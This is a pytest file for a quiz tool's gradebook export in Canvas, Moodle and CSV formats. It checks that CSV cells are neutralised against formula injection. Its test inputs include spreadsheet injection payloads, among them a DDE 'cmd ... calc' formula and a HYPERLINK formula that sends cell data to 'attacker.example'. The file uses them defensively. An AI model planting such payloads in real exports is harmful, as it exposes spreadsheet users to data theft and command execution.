"""``medialit progress report --format canvas|moodle|csv`` and formula-safe CSV cells."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

import medialit.quiz as mq
from medialit.cli import main
from medialit.quiz.gradebook import FORMULA_TRIGGERS, safe_cell, write_csv

FIXTURES = Path(__file__).parent / "fixtures" / "lms"


def _progress(folder: Path, name: str, answers: dict, student: str | None = None,
              student_id: str | None = None) -> Path:
    data: dict = {"format": "medialit-progress", "version": 1, "banks": {}}
    if student is not None:
        data["student"] = student
    if student_id is not None:
        data["student_id"] = student_id
    for (bank, qid), answer in answers.items():
        data["banks"].setdefault(bank, {"questions": {}})["questions"][qid] = {"answer": answer}
    path = folder / f"{name}.json"
    path.write_text(json.dumps(data), encoding="utf-8")
    return path


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _fixture(name: str) -> list[list[str]]:
    return _rows((FIXTURES / name).read_text(encoding="utf-8"))


# ----------------------------------------------------------------------------- OWASP rule


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://e.x","hi")'])
def test_formula_cells_are_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Ana Lima", "3.5", "", "O'Brien", "a=b", " =x is not at the start"])
def test_plain_cells_are_kept(value):
    assert safe_cell(value) == value


def test_write_csv_neutralises_every_cell():
    out = io.StringIO()
    write_csv(out, [["=cmd|' /C calc'!A0", "ok"], [3, "-1+2", None]])
    rows = _rows(out.getvalue())
    assert rows == [["'=cmd|' /C calc'!A0", "ok"], ["3", "'-1+2", ""]]
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_TRIGGERS)


@pytest.mark.parametrize("fmt", ["csv", "canvas", "moodle"])
def test_report_never_writes_a_formula(tmp_path, fmt, capsys):
    evil = _progress(tmp_path, "=evil", {("demo", "single-hedge"): 0},
                     student='=HYPERLINK("http://attacker.example/?"&A1,"click")', student_id="@SUM(1+1)")
    assert main(["progress", "report", str(evil), "--format", fmt]) == 0
    rows = _rows(capsys.readouterr().out)
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.startswith(FORMULA_TRIGGERS)]
    assert any(c.startswith("'=HYPERLINK") or c.startswith("'@SUM") for c in cells)


# ----------------------------------------------------------------------------- Canvas, Moodle


def test_canvas_layout_matches_the_documented_import(tmp_path, capsys):
    ana = _progress(tmp_path, "ana", {("demo", "single-hedge"): 0, ("demo", "multiple-checks"): [0]},
                    student="Lima, Ana", student_id="S1001")
    assert main(["progress", "report", str(ana), "--format", "canvas"]) == 0
    rows = _rows(capsys.readouterr().out)
    doc = _fixture("canvas-gradebook-import.csv")
    assert rows[0][:5] == doc[0][:5]                       # the fixed student columns
    assert rows[1][:5] == doc[1][:5]                       # the Points Possible row
    demo = mq.load_bank("demo")
    assert rows[0][5:] == [demo.title]
    assert rows[1][5] == f"{demo.points:g}"
    assert rows[2] == ["Lima, Ana", "", "S1001", "", "", "2"]  # 1 + 1 (half of 2 points)
    assert len(rows) == 3


def test_moodle_layout_matches_the_documented_import(tmp_path, capsys):
    ana = _progress(tmp_path, "ana", {("demo", "single-hedge"): 0}, student="Ana", student_id="S1001")
    ben = _progress(tmp_path, "ben", {("lesson03", "q1"): 0}, student="Ben", student_id="S1002")
    assert main(["progress", "report", str(ana), str(ben), "--format", "moodle"]) == 0
    rows = _rows(capsys.readouterr().out)
    doc = _fixture("moodle-grade-import.csv")
    assert rows[0][0] == doc[0][0]
    titles = [mq.load_bank("demo").title, mq.load_bank("lesson03").title]
    assert rows[0][1:] == titles
    assert rows[1][0] == "S1001" and rows[1][1] == "1" and rows[1][2] == ""
    assert rows[2][0] == "S1002" and rows[2][1] == ""
    assert len(rows) == 3 and all(len(r) == len(rows[0]) for r in rows)


def test_moodle_uses_email_header_for_email_ids(tmp_path, capsys):
    ana = _progress(tmp_path, "ana", {("demo", "single-hedge"): 0}, student_id="ana@school.example")
    assert main(["progress", "report", str(ana), "--format", "moodle"]) == 0
    assert _rows(capsys.readouterr().out)[0][0] == "Email address"


def test_unmatched_students_and_unreadable_answers_are_listed(tmp_path, capsys):
    noid = _progress(tmp_path, "noid", {("demo", "single-hedge"): "banana", ("demo", "gone"): 1})
    broken = tmp_path / "broken.json"
    broken.write_text("{not json", encoding="utf-8")
    assert main(["progress", "report", str(noid), str(broken), "--format", "canvas"]) == 0
    captured = capsys.readouterr()
    rows = _rows(captured.out)
    assert [r[0] for r in rows[2:]] == ["noid", "broken"]  # listed, not dropped
    assert "no student id" in captured.err
    assert "demo/single-hedge: answer cannot be read" in captured.err
    assert "demo/gone: question no longer in the bank" in captured.err
    assert "damaged" in captured.err


def test_csv_format_lists_unreadable_answers_in_the_note(tmp_path, capsys):
    noid = _progress(tmp_path, "x", {("demo", "single-hedge"): "banana"})
    assert main(["progress", "report", str(noid), "--format", "csv"]) == 0
    rows = _rows(capsys.readouterr().out)
    assert rows[0][-1] == "note" and "answer cannot be read" in rows[2][-1]


def test_set_student_records_the_lms_id(tmp_path):
    path = tmp_path / "p.json"
    mq.set_student("Ana", path=path, student_id="S1001")
    data = mq.load_progress(path)
    assert data["student"] == "Ana" and data["student_id"] == "S1001"


def test_unknown_report_format_is_one_line(tmp_path, capsys):
    ana = _progress(tmp_path, "ana", {})
    assert main(["progress", "report", str(ana), "--format", "xlsx"]) == 2
    err = capsys.readouterr().err
    assert "unknown report format 'xlsx'" in err and len(err.strip().splitlines()) == 1
